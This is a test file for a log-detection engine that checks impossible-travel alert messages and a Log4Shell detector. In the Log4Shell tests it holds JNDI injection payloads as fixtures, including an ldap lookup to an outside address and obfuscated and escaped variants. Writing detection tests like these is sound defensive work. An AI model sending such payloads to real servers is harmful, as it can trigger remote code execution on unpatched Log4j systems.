import { beforeAll, describe, expect, test } from "vitest";
import { type EngineStats, type Signal, createEngine, readPipelines, readSuppressions } from "../../../host/index.ts";
import { runScenario } from "../../../host/scenario.ts";
import { loadKernel, variants } from "../../support/wasm.ts";
import { scenariosOf } from "./harness.ts";

beforeAll(() => variants.forEach((variant) => loadKernel(variant)));

const HOUR_MS = 3_600_000;
const at = Date.UTC(2026, 0, 10);

describe.each([["impossible_travel", 12], ["hardcoded", 1]] as const)("%s scenarios through the engine (skipped where ../shared is absent)", (method, count) => {
  const scenarios = scenariosOf(method);
  test.skipIf(!scenarios.length)(`[DE-30] there are ${count}, and they hold`, async () => {
    expect(scenarios).toHaveLength(count);
    for (const variant of variants) {
      for (const scenario of scenarios) expect(await runScenario(scenario, { variant }), scenario.id).toEqual({ outcome: "passed" });
    }
  });
});

function ruleOf(detectionMethod: string, more: Record<string, unknown>, query: Record<string, unknown>, message: string): Record<string, unknown> {
  return {
    id: "rule", name: "rule", message, isEnabled: true, type: "log_detection", tags: [],
    options: { detectionMethod, keepAlive: 3600, maxSignalDuration: 86400, ...more },
    queries: [{ name: "a", query: "source:web", groupByFields: ["@usr.id"], ...query }], cases: [{ name: "", status: "low" }],
  };
}

async function play(rule: Record<string, unknown>, lines: readonly string[], more: Partial<Parameters<typeof createEngine>[0]> = {}): Promise<{ readonly signals: readonly Signal[]; readonly stats: EngineStats }> {
  const engine = await createEngine({ rules: [rule], ...more });
  await engine.push(new TextEncoder().encode(`${lines.join("\n")}\n`), { format: "intake", arrivalMs: 0, source: "web" });
  const stats = await engine.close();
  return { signals: engine.finalSignals(), stats };
}

describe("what an impossible travel signal says", () => {
  const first = "impossible_travel.triggering_locations.first_location";
  const second = "impossible_travel.triggering_locations.second_location";
  const way = "impossible_travel.triggering_locations";
  const message = `{{@usr.id}}: {{@${first}.city}}, {{@${first}.country}} {{@${first}.ip}} ({{@${first}.lat}} {{@${first}.lon}} at {{@${first}.timestamp}}) to ` +
    `{{@${second}.city}}, {{@${second}.country}} {{@${second}.ip}}: {{@${way}.distance_km}} km at {{@${way}.speed_kmh}} km/h`;
  const rule = ruleOf("impossible_travel", {}, { aggregation: "geo_data", metrics: ["@network.client.geoip"] }, message);
  const places = {
    Paris: { city: { name: "Paris" }, country: { name: "France", iso_code: "FR" }, location: { latitude: 48.8566, longitude: 2.3522 } },
    Tokyo: { city: { name: "Tokyo" }, country: { iso_code: "JP" }, location: { latitude: "35.6762", longitude: 139.6503 } },
    sea: { location: { latitude: 0, longitude: -30 } },
  };
  const access = (timeMs: number, place: keyof typeof places, ip: string): string =>
    JSON.stringify({ timestamp: timeMs, usr: { id: "ann" }, network: { client: { ip, geoip: places[place] } } });

  test("[DE-30] both places, by time, the way between them and how fast it was", async () => {
    const { signals } = await play(rule, [access(at, "Paris", "192.0.2.1"), access(at + HOUR_MS, "Tokyo", "192.0.2.2")]);
    expect(signals.map(({ message: said, eventsMatched, samples }) => [said, eventsMatched, samples.length])).toEqual([
      [`ann: Paris, France 192.0.2.1 (48.8566 2.3522 at ${at}) to Tokyo, JP 192.0.2.2: 9712 km at 9712 km/h`, 2, 2],
    ]);
  });

  test("[DE-30] late, the earlier place still comes first; without time between there is no speed, and what has no name has none", async () => {
    const { signals } = await play(rule, [access(at + 1000, "Paris", "192.0.2.1"), access(at, "sea", "192.0.2.2")]);
    expect(signals[0]!.message).toBe(`ann: ,  192.0.2.2 (0 -30 at ${at}) to Paris, France 192.0.2.1: 6253 km at 22510224 km/h`);
    const tied = await play(rule, [access(at, "sea", "192.0.2.2"), access(at, "Tokyo", "192.0.2.1")]);
    expect(tied.signals[0]!.message).toContain("km at  km/h");
  });

  test("[DE-30] the message tells of the latest way; suppressions see it too", async () => {
    const three = [access(at, "Paris", "192.0.2.1"), access(at + HOUR_MS, "Tokyo", "192.0.2.2"), access(at + 2 * HOUR_MS - 1, "Paris", "192.0.2.3")];
    const { signals } = await play(rule, three);
    expect(signals).toHaveLength(1);
    expect(signals[0]!.message).toMatch(/^ann: Tokyo, JP 192\.0\.2\.2 .* to Paris, France 192\.0\.2\.3: 9712 km/);
    const suppressions = [{ id: "s", name: "s", enabled: true, rule_query: "*", suppression_query: `@${second}.city:Tokyo` }];
    const quiet = await play(rule, three, { suppressions: readSuppressions(suppressions) });
    expect(quiet.stats.suppressed).toBe(1);
    expect(quiet.signals.map(({ firstSeenMs }) => firstSeenMs - at)).toEqual([2 * HOUR_MS - 1]);
  });
});

describe("log4shell", () => {
  const rule = ruleOf("hardcoded", { hardcodedEvaluatorType: "log4shell" }, { aggregation: "none" }, "attack on {{@usr.id}}");
  const attack = "${jndi:ldap://203.0.113.5/a}";
  const line = (user: string, more: Record<string, unknown>, i = 0): string => JSON.stringify({ timestamp: at + i, usr: { id: user }, ...more });

  test("is found wherever the event holds it, however JSON spells it, and nowhere else", async () => {
    const lines = [
      line("plain", { message: `GET / ua=${attack}` }), line("deep", { http: { headers: [{ "x-api": ["a", attack] }] } }), line("key", { [attack]: 1 }), line("none", { message: "${jndi:" }),
      line("spelt", { message: attack }).replaceAll("$", "\\u0024").replaceAll("{j", "\\u007bj"), line("wrapped", { message: "${${lower:J}ndi:${lower:l}dap://x}" }),
      line("inner", { message: JSON.stringify({ agent: attack }) }), line("other", { message: attack, ddsource: "db" }),
    ];
    const { signals, stats } = await play(rule, lines);
    expect(signals.map(({ message }) => message)).toEqual(["plain", "deep", "spelt", "wrapped", "inner"].map((user) => `attack on ${user}`));
    expect(stats.evicted).toBe(0);
  });

  test("is found in what pipelines put together", async () => {
    const { pipelines, problems } = readPipelines(JSON.stringify({
      name: "web", is_enabled: true, filter: { query: "source:web" },
      processors: [{ type: "string-builder-processor", name: "join", is_enabled: true, template: "%{sign}%{rest}", target: "joined", is_replace_missing: true }],
    }), "web.json");
    expect(problems).toEqual([]);
    const lines = [line("ann", { sign: "$", rest: "{jndi:rmi:x}" }), line("bob", { sign: "$", rest: "jndi:rmi:x}" })];
    expect((await play(rule, lines)).signals).toEqual([]);
    const { signals } = await play(rule, lines, { pipelines });
    expect(signals.map(({ group }) => group["@usr.id"])).toEqual(["ann"]);
  });

  test("the event is read while others of its batch push older ones out", async () => {
    const filler = "x".repeat(4000);
    const lines = Array.from({ length: 20_000 }, (_, i) => line(`u${i % 7}`, { message: i % 5000 === 0 ? attack : filler }, i));
    const whole = await play(rule, lines);
    expect(whole.stats).toMatchObject({ evicted: 0, signals: 4 });
    const cut = await play(rule, lines, { workers: 2 });
    expect(cut.signals.map(({ id }) => id)).toEqual(whole.signals.map(({ id }) => id));
  }, 60_000);
});
